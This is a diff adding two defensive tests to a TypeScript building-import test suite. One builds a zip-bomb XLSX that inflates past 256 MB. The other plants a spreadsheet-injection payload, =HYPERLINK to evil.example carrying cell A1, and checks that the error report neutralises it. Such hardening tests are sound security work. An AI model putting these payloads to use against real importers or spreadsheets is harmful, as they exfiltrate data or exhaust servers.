@@ -14,6 +14,7 @@ import { createWorker } from '../../workers/worker.ts';
 import { importProgressQuery, importWorkflowId } from '../../workflows/building-import/messages.ts';
 import { XLSX_TYPE, bearer, call, cellsOf, csvFile, finished, gbk, housesIn, upload } from '../support/imports.ts';
 import { startStack } from '../support/stack.ts';
+import { repeated, workbookParts, zipOf } from '../support/zip.ts';
 import type { Stack } from '../support/stack.ts';
 
 const run = promisify(execFile);
@@ -186,6 +187,37 @@ describe('building import', () => {
     assert.deepEqual(await stack.db('import_jobs').count({ n: '*' }).first(), before);
     const stored = readdirSync(join(stack.config.dataDir, 'files', 'imports'));
     assert.equal(stored.length, Number(before?.n));
+  });
+
+  test('a zip bomb (shared strings inflating past 256 MB) fails the job with the limit named, imports nothing and leaves no copy', async () => {
+    const header = IMPORT_COLUMNS.map(
+      (c, i) => `<c r="${String.fromCharCode(65 + (i % 26))}1" t="inlineStr"><is><t>${c.header}</t></is></c>`,
+    );
+    const mb = Buffer.alloc(1024 * 1024, '1');
+    const bomb = await zipOf(workbookParts([`<row r="1">${header.join('')}</row>`], ['<si><t>', ...repeated(mb, 300), '</t></si>']));
+    const before = await stack.db('buildings').count({ n: '*' }).first();
+    const job = await importAs(town, bomb, 'bomb.xlsx', XLSX_TYPE);
+    assert.equal(job.status, 'failed');
+    assert.match(job.error ?? '', /解压后超过 256 MB/);
+    assert.deepEqual([job.inserted, job.updated], [0, 0]);
+    assert.deepEqual(await stack.db('buildings').count({ n: '*' }).first(), before);
+    const folder = join(stack.config.dataDir, 'files', 'imports', job.id);
+    assert.deepEqual(readdirSync(folder).sort(), ['errors.csv', 'source.xlsx']);
+  });
+
+  test('the error report neutralises cells a spreadsheet would run as formulas (an address =HYPERLINK(…))', async () => {
+    const [house] = housesIn(TOWN, 1, 31);
+    const address = `=HYPERLINK("http://evil.example/?d="&A1,"点击查看")${'x'.repeat(200)}`;
+    const job = await importAs(
+      town,
+      csvFile([cellsOf(house!, { externalId: 'T-INJECT-1', address }), cellsOf(house!, { externalId: 'T-INJECT-2', floorsAbove: '-1' })]),
+      'inject.csv',
+    );
+    assert.equal(job.failedRows, 2);
+    const report = (await call(stack.baseUrl, town, `/api/building-imports/${job.id}/errors.csv`)).bytes.toString('utf8');
+    assert.ok(report.includes(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")x`), report);
+    assert.match(report, /\r\n3,地上层数,'-1,/);
+    assert.ok(!/(^|,)"?=HYPERLINK/m.test(report));
   });
 
   test('an unknown header fails the job with a clear message and imports nothing', async () => {
